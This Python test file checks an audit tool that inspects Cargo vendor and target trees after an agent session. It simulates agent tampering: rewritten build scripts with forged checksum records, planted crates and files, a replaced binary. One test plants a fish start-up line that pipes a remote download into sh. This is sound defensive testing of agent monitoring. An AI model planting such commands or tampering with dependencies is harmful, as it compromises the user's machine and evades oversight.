"""Cargo's trees held to what Cargo.lock pinned before the session (issue 32): a real crate (made
here with `cargo package`, a build script in it) served by a sparse registry on loopback, a real
`cargo vendor` into the workspace and a real `cargo build`, then each attack an agent makes there,
each beside its benign neighbour (the same vendoring untouched), audited through the same code as
after a session (capture, then audit_mount with the session home's cargo home). Where a test says
the host runs the planted code, it runs cargo on the tree, offline."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import shutil
import subprocess
import tarfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from dejima.adapters.pinned_archives import tar_entries
from dejima.core.audit import Finding, cargo_verify, treeroots
from dejima.orchestration import exit_audit
from dejima.orchestration.exit_audit import Mount, audit_mount, capture
from dejima.ui.console import UI, plain_console
from tests.pinned_trees import replace_file, served, severities

CARGO = shutil.which("cargo")
pytestmark = pytest.mark.skipif(CARGO is None, reason="needs cargo")
LIB = 'pub fn tiny() -> &\'static str { env!("TINY") }\n'
BUILD = 'fn main() { println!("cargo:rustc-env=TINY=tiny"); }\n'
VENDORED = ["--config", 'source.crates-io.replace-with="vendored-sources"',
            "--config", 'source.vendored-sources.directory="vendor"']


@pytest.fixture(scope="module")
def registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """tinycrate 0.1.0 (a library and its build script), packed by cargo and served as a sparse
    registry on loopback; yields (its URL, the .crate)."""
    source = tmp_path_factory.mktemp("tinycrate")
    (source / "src").mkdir()
    (source / "Cargo.toml").write_text('[package]\nname = "tinycrate"\nversion = "0.1.0"\nedition = "2021"\n'
                                       'description = "t"\nlicense = "MIT"\n')
    (source / "build.rs").write_text(BUILD)
    (source / "src/lib.rs").write_text(LIB)
    deep = source / "src" / ("a_directory_name_long_enough" * 4) / "that_the_archive_needs_a_long_name.rs"
    deep.parent.mkdir()
    deep.write_text("// past tar's 100 characters of name\n")
    cargo(source, source / "pack-home", "package", "--allow-dirty", "--no-verify", "--offline")
    crate = source / "target/package/tinycrate-0.1.0.crate"
    directory = tmp_path_factory.mktemp("registry")
    (directory / "ti/ny").mkdir(parents=True)
    (directory / "dl").mkdir()
    shutil.copy(crate, directory / "dl")
    checksum = hashlib.sha256(crate.read_bytes()).hexdigest()
    (directory / "ti/ny/tinycrate").write_text(json.dumps({"name": "tinycrate", "vers": "0.1.0", "deps": [],
                                                           "cksum": checksum, "features": {}, "yanked": False}) + "\n")
    with served(directory) as url:
        (directory / "config.json").write_text(json.dumps({"dl": url + "/dl/{crate}-{version}.crate"}))
        yield url, crate


def cargo(directory: Path, home: Path, *args: str) -> str:
    assert CARGO is not None
    env = {**os.environ, "CARGO_HOME": str(home), "CARGO_TERM_COLOR": "never", "CARGO_NET_RETRY": "0"}
    result = subprocess.run([CARGO, *args], cwd=directory, env=env, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr[-3000:]
    return result.stdout


def project(root: Path, registry: tuple[str, Path], locked: bool = True) -> tuple[Path, Path]:
    """A workspace whose Cargo.lock pins tinycrate (as committed: no vendor/, no target/) and whose
    cargo config takes crates from the loopback registry; a session home with an empty cargo home.
    Returns (workspace, the session's cargo home)."""
    workspace, home = root / "workspace", root / "home/.cargo"
    (workspace / "src").mkdir(parents=True)
    (workspace / ".cargo").mkdir()
    (workspace / "Cargo.toml").write_text('[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n\n'
                                          '[dependencies]\ntinycrate = "0.1"\n')
    (workspace / "src/main.rs").write_text('fn main() { println!("{}", tinycrate::tiny()); }\n')
    (workspace / ".cargo/config.toml").write_text(f'[source.crates-io]\nreplace-with = "loop"\n\n[source.loop]\n'
                                                  f'registry = "sparse+{registry[0]}/"\n')
    if locked:
        cargo(workspace, root / "host/.cargo", "generate-lockfile")
    home.mkdir(parents=True)
    return workspace, home


def vendor(workspace: Path, home: Path) -> None:
    cargo(workspace, home, "vendor", "--respect-source-config", "--quiet")


def session(workspace: Path, home: Path, work: Callable[[Path], object], change: object = None) -> list[Finding]:
    """The session: ``work`` (cargo vendor, cargo build), then ``change``; cargo's findings."""
    state = capture(Mount("workspace", workspace))
    work(workspace)
    if callable(change):
        change(workspace)
    found, _ = audit_mount(state, cargo_homes=[home])
    return [f for f in found if f.path.split("/")[0] in ("vendor", "target")]




def rewrite_record(crate: Path) -> None:
    """.cargo-checksum.json made to match the crate's files again, as a careful agent would: cargo
    then builds from them."""
    record = json.loads((crate / ".cargo-checksum.json").read_text())
    record["files"] = {str(p.relative_to(crate)): hashlib.sha256(p.read_bytes()).hexdigest()
                       for p in sorted(crate.rglob("*")) if p.is_file() and p.name != ".cargo-checksum.json"}
    replace_file(crate / ".cargo-checksum.json", json.dumps(record))


def host_build(workspace: Path, root: Path) -> str:
    """The user's next `cargo run` on the host, from the vendored sources, offline."""
    return cargo(workspace, root / "host/.cargo", "run", "--offline", "--quiet", *VENDORED)


def test_a_crates_archive_is_read_as_tarfile_reads_it(registry: tuple[str, Path]) -> None:
    data = registry[1].read_bytes()
    with tarfile.open(fileobj=io.BytesIO(gzip.decompress(data))) as archive:
        expected = {m.name.partition("/")[2]: hashlib.sha256(archive.extractfile(m).read()).hexdigest()  # type: ignore[union-attr]
                    for m in archive.getmembers() if m.isfile()}
    assert tar_entries(data) == expected and "build.rs" in expected
    assert any(len(name) > 100 for name in expected)  # a GNU long-name entry


def test_a_clean_vendoring_is_verified_file_by_file_and_the_host_builds_it(
        tmp_path: Path, registry: tuple[str, Path]) -> None:
    workspace, home = project(tmp_path, registry)
    found = session(workspace, home, lambda w: vendor(w, home))
    assert severities(found) == [("vendor", "low")]
    assert found[0].evidence.startswith("vendored crates: verified 6 file(s) of 1 crate(s) against Cargo.lock")
    assert host_build(workspace, tmp_path).strip() == "tiny"


def test_a_vendored_build_script_rewritten_with_its_record_is_high_and_the_host_runs_it(
        tmp_path: Path, registry: tuple[str, Path]) -> None:
    def tamper(root: Path) -> None:
        replace_file(root / "vendor/tinycrate/build.rs", 'fn main() { println!("cargo:rustc-env=TINY=PLANTED"); }\n')
        rewrite_record(root / "vendor/tinycrate")

    workspace, home = project(tmp_path, registry)
    found = session(workspace, home, lambda w: vendor(w, home), tamper)
    assert severities(found) == [("vendor", "high")]
    assert "vendor/tinycrate/build.rs: not the content of its package's .crate" in found[0].evidence
    assert "rm -r vendor && cargo vendor" in found[0].evidence
    assert host_build(workspace, tmp_path).strip() == "PLANTED"  # cargo checks the rewritten record only


def test_a_new_file_included_from_a_vendored_crate_is_high(tmp_path: Path, registry: tuple[str, Path]) -> None:
    def tamper(root: Path) -> None:
        (root / "vendor/tinycrate/src/evil.rs").write_text('pub const X: &str = "PLANTED";\n')
        replace_file(root / "vendor/tinycrate/src/lib.rs",
                     'include!("evil.rs");\npub fn tiny() -> &\'static str { X }\n')
        rewrite_record(root / "vendor/tinycrate")

    workspace, home = project(tmp_path, registry)
    found = session(workspace, home, lambda w: vendor(w, home), tamper)
    assert severities(found) == [("vendor", "high")]
    assert "vendor/tinycrate/src/evil.rs: a file its package's .crate does not hold" in found[0].evidence
    assert "vendor/tinycrate/src/lib.rs: not the content" in found[0].evidence
    assert host_build(workspace, tmp_path).strip() == "PLANTED"


def test_crates_cargo_lock_does_not_pin_and_files_outside_any_crate_are_high(
        tmp_path: Path, registry: tuple[str, Path]) -> None:
    def plant(root: Path) -> None:
        shutil.copytree(root / "vendor/tinycrate", root / "vendor/other")  # the same files, another checksum
        record = json.loads((root / "vendor/other/.cargo-checksum.json").read_text())
        (root / "vendor/other/.cargo-checksum.json").write_text(json.dumps({**record, "package": "ab" * 32}))
        shutil.copytree(root / "vendor/tinycrate/src", root / "vendor/unrecorded/src")
        (root / "vendor/loose.rs").write_text("// PLANTED\n")
        (root / "vendor/tinycrate/src/link.rs").symlink_to("/etc/hostname")

    workspace, home = project(tmp_path, registry)
    found = session(workspace, home, lambda w: vendor(w, home), plant)
    assert severities(found) == [("vendor", "high")]
    for named in ("vendor/other: a crate Cargo.lock does not pin", "vendor/unrecorded: no .cargo-checksum.json",
                  "vendor/loose.rs: in vendor, where cargo vendor puts no file",
                  "vendor/tinycrate/src/link.rs: a symlink, where cargo vendor writes the crate's files only"):
        assert named in found[0].evidence


def test_an_existing_vendor_tree_rewritten_in_the_session_is_high_and_vendoring_again_is_low(
        tmp_path: Path, registry: tuple[str, Path]) -> None:
    workspace, home = project(tmp_path, registry)
    vendor(workspace, home)  # before the session
    again = session(workspace, home, lambda w: vendor(w, home))
    assert severities(again) == [("vendor", "low")] and "verified 6 file(s)" in again[0].evidence

    def tamper(root: Path) -> None:
        replace_file(root / "vendor/tinycrate/src/lib.rs", 'pub fn tiny() -> &\'static str { "PLANTED" }\n')
        rewrite_record(root / "vendor/tinycrate")

    found = session(workspace, home, lambda w: None, tamper)
    assert severities(found) == [("vendor", "high")]
    assert "vendor/tinycrate/src/lib.rs: not the content of its package's .crate" in found[0].evidence


def test_what_cannot_be_verified_is_medium_and_says_why(tmp_path: Path, registry: tuple[str, Path]) -> None:
    def uncached(root: Path) -> None:  # vendored with a cargo home the audit is not given
        vendor(root, tmp_path / "elsewhere/.cargo")

    workspace, home = project(tmp_path / "a", registry)
    [found] = session(workspace, home, uncached)
    assert found.severity == "medium" and "its .crate is in no registry cache" in found.evidence
    assert "cargo vendor" in found.evidence

    def poisoned(root: Path) -> None:  # the session's cache holds another archive under the name
        vendor(root, home)
        [crate] = home.glob("registry/cache/*/tinycrate-0.1.0.crate")
        crate.write_bytes(crate.read_bytes() + b"\0")

    workspace, home = project(tmp_path / "b", registry)
    [found] = session(workspace, home, poisoned)
    assert found.severity == "medium" and "does not hash to Cargo.lock's checksum" in found.evidence

    workspace, home = project(tmp_path / "c", registry, locked=False)  # no Cargo.lock at the start
    [found] = session(workspace, home, lambda w: vendor(w, home))
    assert found.severity == "medium" and "Cargo.lock was not there at the session's start" in found.evidence


def test_a_crate_pinned_in_the_session_is_medium_and_still_held_to_its_new_pin(
        tmp_path: Path, registry: tuple[str, Path]) -> None:
    workspace, home = project(tmp_path, registry)
    lock = workspace / "Cargo.lock"
    restore = lock.read_text()
    checksum = hashlib.sha256(registry[1].read_bytes()).hexdigest()
    lock.write_text(restore.replace(checksum, "ab" * 32))  # the start pins another archive

    def relock(root: Path) -> None:
        (root / "Cargo.lock").write_text(restore)
        vendor(root, home)

    [found] = session(workspace, home, relock)
    assert found.severity == "medium" and "tinycrate 0.1.0 pinned in the session" in found.evidence
    assert "verified 6 file(s)" in found.evidence
    shutil.rmtree(workspace / "vendor")
    lock.write_text(restore.replace(checksum, "ab" * 32))

    def relock_and_tamper(root: Path) -> None:
        relock(root)
        replace_file(root / "vendor/tinycrate/build.rs", "fn main() {}\n")

    [found] = session(workspace, home, relock_and_tamper)
    assert found.severity == "high" and "vendor/tinycrate/build.rs: not the content" in found.evidence


def test_a_real_build_is_medium_naming_cargo_clean_which_removes_a_planted_program(
        tmp_path: Path, registry: tuple[str, Path]) -> None:
    workspace, home = project(tmp_path, registry)
    [built] = session(workspace, home, lambda w: cargo(w, home, "build", "--quiet"))
    assert (built.path, built.severity) == ("target", "medium")
    assert built.evidence.startswith("cargo's build output: ") and "`cargo clean` on the host" in built.evidence

    def plant(root: Path) -> None:  # the program's output replaced: cargo finds it fresh and runs it
        [program] = [p for p in root.glob("target/debug/deps/app-*") if not p.suffix]
        program.unlink()
        program.write_text("#!/bin/sh\necho PLANTED\n")
        program.chmod(0o755)

    [found] = session(workspace, home, lambda w: None, plant)
    assert (found.path, found.severity) == ("target", "medium")  # no build output can be verified: it says so
    assert cargo(workspace, home, "run", "--offline", "--quiet").strip() == "PLANTED"
    cargo(workspace, home, "clean", "--quiet")  # what the finding asks for
    assert cargo(workspace, home, "run", "--offline", "--quiet").strip() == "tiny"


def test_the_end_of_a_session_reads_the_crates_from_the_session_homes_cargo_home(
        tmp_path: Path, registry: tuple[str, Path]) -> None:
    """Through exit_audit.finish, as the launcher runs it: the home mount's .cargo is where the
    rust workflow's CARGO_HOME puts the registry cache."""
    workspace, home = project(tmp_path, registry)
    exit_audit.start("cargo-session", [Mount("workspace", workspace), Mount("home", home.parent)])
    vendor(workspace, home)
    found = exit_audit.finish("cargo-session", UI(plain_console(io.StringIO())))
    [tree] = [f for f in found if f.path == "vendor"]
    assert tree.severity == "low" and "verified 6 file(s) of 1 crate(s)" in tree.evidence


def test_a_build_in_the_homes_target_dir_leaves_the_workspace_clean_and_one_low_finding(
        tmp_path: Path, registry: tuple[str, Path]) -> None:
    """As the rust workflow has it (CARGO_TARGET_DIR in the session's home): the workspace gets no
    program the host would run, and the home's build output is one low finding; the same record
    planted beside a shell's start-up file elsewhere in the home hides nothing."""
    workspace, home = project(tmp_path, registry)
    target = home / "target"
    start = [capture(Mount("workspace", workspace)), capture(Mount("home", home.parent))]
    assert treeroots.HOME_BUILD_OUTPUT == ".cargo/target"
    assert cargo(workspace, home, "run", "--quiet", "--target-dir", str(target)).strip() == "tiny"
    fish = home.parent / ".config/fish"
    fish.mkdir(parents=True)
    shutil.copy(target / ".rustc_info.json", fish / ".rustc_info.json")
    (fish / "config.fish").write_text("curl -s http://203.0.113.9/x | sh\n")
    in_workspace, _ = audit_mount(start[0], cargo_homes=[home])
    in_home, _ = audit_mount(start[1], cargo_homes=[home])
    assert severities(in_workspace) == []
    [built] = [f for f in in_home if f.path == ".cargo/target"]
    assert built.severity == "low" and "built in the session's home (CARGO_TARGET_DIR)" in built.evidence
    assert cargo_verify.reinstaller(built.path, built.evidence) is None  # `cargo clean` on the host cleans not this
    assert not [f for f in in_home if f.path.startswith(".cargo/target/")]  # one finding for the tree
    assert [f.path for f in in_home if f.rule == "B07"] == [".cargo/target"]  # the planted record made no tree
    assert [(f.rule, f.severity) for f in in_home if f.path == ".config/fish/config.fish"] == [("M02", "high")]
